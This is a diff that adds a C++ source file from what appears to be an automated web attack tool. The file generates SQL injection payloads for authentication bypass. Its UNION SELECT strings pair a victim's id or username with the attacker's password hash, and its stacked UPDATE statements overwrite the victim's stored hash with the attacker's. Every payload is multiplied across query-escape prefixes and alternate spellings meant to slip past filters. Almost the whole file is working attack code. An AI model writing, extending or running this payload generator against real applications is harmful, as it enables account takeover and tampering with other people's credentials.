@@ -1,0 +1,98 @@
+#include "core/attack/forged_row.h"
+
+#include <algorithm>
+
+#include "core/attack/options.h"
+#include "core/attack/spelling.h"
+#include "core/base/ascii.h"
+
+namespace parapet::attack {
+namespace {
+
+constexpr std::size_t kMostColumns = 5;
+
+bool holds_password(std::string const& column) {
+    std::string const name = ascii::lower(column);
+    return name.find("pass") != std::string::npos || name.find("hash") != std::string::npos;
+}
+
+std::string join(std::vector<std::string> const& items) {
+    std::string text;
+    for (std::string const& item : items) text += (text.empty() ? "" : ",") + item;
+    return text;
+}
+
+}  // namespace
+
+ForgedRow::ForgedRow(Target const& target, std::string_view username_column,
+                     std::string_view victim)
+    : username_(username_column), victim_(victim), attacker_(target.surface().attacker.username) {
+    for (Column const& each : wanted_columns(target.surface())) {
+        if (!holds_password(each.column) || !table_.empty()) continue;
+        table_ = each.table;
+        hash_ = each.column;
+    }
+}
+
+// All rows of count columns that begin with row: of each kind of column at least the hash, once.
+void ForgedRow::extend(std::vector<Columns>& rows, Columns const& row, std::size_t count) {
+    auto const uses = [&](char const* column) {
+        return std::count(row.begin(), row.end(), column) > 0;
+    };
+    if (row.size() == count) {
+        bool const whole = uses("h") && (uses("v.id") || uses("u"));
+        if (whole && (count < 3 || (uses("v.id") && uses("u")))) rows.push_back(row);
+        return;
+    }
+    for (char const* next : {"v.id", "u", "h"}) {
+        bool const once = next[0] != 'u';  // what is left over is a name
+        if (once && uses(next)) continue;
+        Columns longer = row;
+        longer.emplace_back(next);
+        extend(rows, longer, count);
+    }
+}
+
+std::vector<ForgedRow::Columns> ForgedRow::rows() const {
+    std::vector<Columns> all;
+    for (std::size_t count : {std::size_t{3}, std::size_t{2}, std::size_t{4}, kMostColumns})
+        extend(all, {}, count);
+    for (Columns& row : all) {
+        for (std::string& column : row) {
+            if (column == "h") column = "a." + hash_;
+            if (column == "u") column = "v." + username_;
+        }
+    }
+    return all;
+}
+
+std::vector<std::string> ForgedRow::texts(std::vector<Break> const& breaks) const {
+    std::vector<std::string> texts;
+    if (table_.empty()) return texts;
+    std::string const from = " FROM " + table_ + " a JOIN " + table_ + " v WHERE a." + username_ +
+                             "=" + quoted(attacker_) + " AND v." + username_ + "=" +
+                             quoted(victim_);
+    for (Spelling const& spelling : spellings()) {
+        for (Break const& each : breaks) {
+            for (Columns const& row : rows())
+                texts.push_back(each.open + spelling.write(" UNION SELECT " + join(row) + from) +
+                                each.tail);
+        }
+    }
+    return texts;
+}
+
+std::vector<std::string> ForgedRow::overwriting(std::vector<Break> const& breaks) const {
+    std::vector<std::string> texts;
+    if (table_.empty()) return texts;
+    std::string const sql = ";UPDATE " + table_ + " SET " + hash_ + "=(SELECT " + hash_ + " FROM " +
+                            table_ + " WHERE " + username_ + "=" + quoted(attacker_) + ") WHERE " +
+                            username_ + "=" + quoted(victim_);
+    for (Spelling const& spelling : spellings()) {
+        for (Break const& each : breaks)
+            texts.push_back(each.open + spelling.write(sql) + each.tail);
+    }
+    return texts;
+}
+
+}  // namespace parapet::attack
